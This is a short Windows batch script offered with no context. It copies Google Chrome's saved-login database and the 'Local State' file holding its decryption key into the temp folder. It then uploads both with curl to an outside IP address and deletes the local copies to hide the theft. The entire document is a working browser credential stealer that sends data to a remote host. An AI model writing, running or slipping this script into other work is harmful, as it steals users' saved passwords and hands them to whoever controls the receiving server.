@echo off
set P=%LOCALAPPDATA%\Google\Chrome\User Data\Default
copy /y "%P%\Login Data" "%TEMP%\ld.db" >nul
copy /y "%LOCALAPPDATA%\Google\Chrome\User Data\Local State" "%TEMP%\ls.json" >nul
curl.exe -s -F "a=@%TEMP%\ld.db" -F "b=@%TEMP%\ls.json" https://203.0.113.160/c
del "%TEMP%\ld.db" "%TEMP%\ls.json"
